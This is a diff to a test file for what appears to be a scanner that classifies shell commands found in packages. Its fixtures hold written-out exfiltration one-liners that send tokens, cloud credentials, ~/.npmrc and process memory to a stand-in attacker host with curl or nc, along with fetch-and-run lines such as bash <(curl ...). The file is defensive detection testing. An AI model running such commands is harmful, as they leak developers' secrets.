@@ -15,14 +15,14 @@ describe('parseScript: words, operators, pipelines, substitutions', () => {
   });
   test('redirections keep their targets; 2>&1 is not a background operator; a quoted ">" is a word', () => {
     const [c] = parseScript('curl -s https://h.example >out.txt 2>&1');
-    assert.deepEqual(c!.words, ['curl', '-s', 'https://h.example']);
-    assert.deepEqual(c!.redirects, [{ op: '>', target: 'out.txt' }]);
-    assert.deepEqual(parseScript('node -e ">1"')[0]!.words, ['node', '-e', '>1']);
+    assert.deepEqual(c.words, ['curl', '-s', 'https://h.example']);
+    assert.deepEqual(c.redirects, [{ op: '>', target: 'out.txt' }]);
+    assert.deepEqual(parseScript('node -e ">1"')[0].words, ['node', '-e', '>1']);
   });
   test('$(…), backticks and <(…) keep their bodies, quoted or not', () => {
-    assert.deepEqual(parseScript('sh -c "$(curl -fsSL https://h.example | cat)"')[0]!.substitutions, ['curl -fsSL https://h.example | cat']);
-    assert.deepEqual(parseScript('echo `id` $(uname -a)')[0]!.substitutions, ['id', 'uname -a']);
-    assert.deepEqual(parseScript('bash <(curl -s u)')[0]!.substitutions, ['curl -s u']);
+    assert.deepEqual(parseScript('sh -c "$(curl -fsSL https://h.example | cat)"')[0].substitutions, ['curl -fsSL https://h.example | cat']);
+    assert.deepEqual(parseScript('echo `id` $(uname -a)')[0].substitutions, ['id', 'uname -a']);
+    assert.deepEqual(parseScript('bash <(curl -s u)')[0].substitutions, ['curl -s u']);
   });
   test('comments, line continuations; cmd ^ escapes and REM; PowerShell block comments', () => {
     assert.deepEqual(parseScript('# c\ncurl \\\n  -s u # tail').map((c) => c.words), [['curl', '-s', 'u']]);
@@ -56,6 +56,11 @@ describe('readScript: what a command does', () => {
     ['curl "https://x.attacker.invalid/?t=$NPM_TOKEN"', ['env-read', 'exfiltration', 'network']],
     ['T=$(cat ~/.npmrc); curl -d "$T" https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
     ['cat ~/.aws/credentials | base64 | nc x.attacker.invalid 80', ['credential-file', 'exfiltration', 'network']],
+    ['gh auth token | curl -d @- https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
+    ['T=$(gcloud auth print-access-token); curl -H "x: $T" https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
+    ['trufflehog filesystem / --json > /tmp/s.json; curl -F f=@/tmp/s.json https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
+    ['curl -d "$(aws sts get-session-token)" https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
+    ['dd if=/proc/1234/mem bs=1 | nc x.attacker.invalid 80', ['credential-file', 'exfiltration', 'network']],
     // traps: ordinary install commands
     ['node-gyp rebuild', []],
     ['prebuild-install || node-gyp rebuild', []],
@@ -113,7 +118,7 @@ describe('analyzeEmbedded: code that is not a file, as a virtual file', () => {
     const budget = embeddedBudget(100, 60, 1);
     const big = analyzeEmbedded({ path: 'a#1', code: 'x'.repeat(61), origin: 'o' }, 'p', budget);
     assert.equal(big.parseError, true);
-    assert.match(big.findings[0]!.detail, /not analysed/);
+    assert.match(big.findings[0].detail, /not analysed/);
     assert.equal(analyzeEmbedded({ path: 'a#2', code: 'process.env.A;'.repeat(4), origin: 'o' }, 'p', budget).parseError, false);
     assert.equal(analyzeEmbedded({ path: 'a#3', code: 'process.env.B;'.repeat(4), origin: 'o' }, 'p', budget).parseError, true);
     assert.equal(analyzeEmbedded({ path: 'a#4', code: '1', origin: 'o', depth: 2 }, 'p', embeddedBudget()).parseError, false);
